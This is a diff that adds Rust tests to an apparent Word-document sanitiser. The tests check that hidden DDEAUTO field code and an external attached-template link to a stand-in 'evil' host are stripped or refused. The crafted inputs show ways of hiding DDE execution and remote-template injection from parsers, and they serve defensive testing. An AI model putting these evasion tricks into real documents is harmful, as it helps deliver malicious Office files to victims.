@@ -156,6 +156,44 @@ fn fields_that_read_from_elsewhere_lose_their_code_and_keep_their_result() {
 }
 
 #[test]
+fn a_field_that_hides_behind_what_readers_skip_is_refused_or_loses_its_code() {
+    let begin = r#"<w:fldChar w:fldCharType="begin"/>"#;
+    // Blanks in front of the first word.
+    let blanks = format!("{}DDEAUTO x", " ".repeat(300));
+    let kept = Document::word(&field(&[blanks.as_str()])).taken().unwrap();
+    assert!(kept.out() == [Taken::Field] && !kept.all().contains("DDEAUTO"));
+    for hidden in [
+        // What a newer program would see, or none.
+        r#"<mc:AlternateContent><mc:Choice Requires="z"><w:instrText>PAGE </w:instrText></mc:Choice></mc:AlternateContent><w:instrText>DDEAUTO x</w:instrText>"#,
+        "<z:skip><w:r><w:instrText>PAGE </w:instrText></w:r></z:skip><w:instrText>DDEAUTO x</w:instrText>",
+        "<z:instrText>PAGE </z:instrText><w:instrText>DDEAUTO x</w:instrText>",
+        "<a:t>PAGE </a:t><w:instrText>DDEAUTO x</w:instrText>",
+        r#"<z:fldChar z:fldCharType="separate"/><w:instrText>DDEAUTO x</w:instrText>"#,
+    ] {
+        assert_eq!(Document::word(&format!("{begin}{hidden}")).taken().err(), Some(Refused::LiveData), "{hidden}");
+    }
+    // Two attributes of one name, and a prefix that is another one for a while.
+    let two = r#"<w:fldChar z:fldCharType="separate" w:fldCharType="begin"/><w:instrText>DDEAUTO x</w:instrText>"#;
+    assert_eq!(Document::word(two).taken().err(), Some(Refused::Damaged));
+    let named = r#"<w:fldChar xmlns:fldCharType="x" w:fldCharType="begin"/><w:instrText>DDEAUTO x</w:instrText>"#;
+    assert_eq!(Document::word(named).taken().unwrap().out(), [Taken::Field]);
+    let other = format!(r#"{begin}<w:skip xmlns:w="urn:z"><w:instrText>PAGE </w:instrText></w:skip>"#);
+    assert_eq!(Document::word(&other).taken().err(), Some(Refused::Damaged));
+    // A field in a text box that a newer program draws is a field.
+    let inside = format!("<mc:AlternateContent><mc:Choice>{}</mc:Choice></mc:AlternateContent>", field(&["PAGE"]));
+    assert_eq!(Document::word(&inside).taken().unwrap().out(), []);
+}
+
+#[test]
+fn names_of_namespaces_are_no_attributes() {
+    let hidden = r#"<Relationship xmlns:TargetMode="Internal" xmlns:Target="styles.xml" Id="rId7" Type="http://x/attachedTemplate" Target="http://evil/t.dotm" TargetMode="External"/>"#;
+    let kept = with_links(hidden).taken().unwrap();
+    assert!(kept.out() == [Taken::Template] && !kept.all().contains("evil"), "{}", kept.all());
+    let other = r#"<Relationship z:TargetMode="Internal" Id="rId7" Type="http://x/image" Target="http://evil/t.png" TargetMode="External"/>"#;
+    assert!(!with_links(other).taken().unwrap().all().contains("evil"));
+}
+
+#[test]
 fn names_in_comments_and_changes_become_numbers() {
     let body = r#"<w:ins w:id="1" w:author="Amal Haddad"><w:r><w:t>new</w:t></w:r></w:ins><w:del w:author="Bilal"/><w:ins w:author="Amal Haddad"/>"#;
     let people = r#"<w15:people xmlns:w15="p"><w15:person w15:author="Amal Haddad"><w15:presenceInfo w15:userId="amal@city.example"/></w15:person></w15:people>"#;
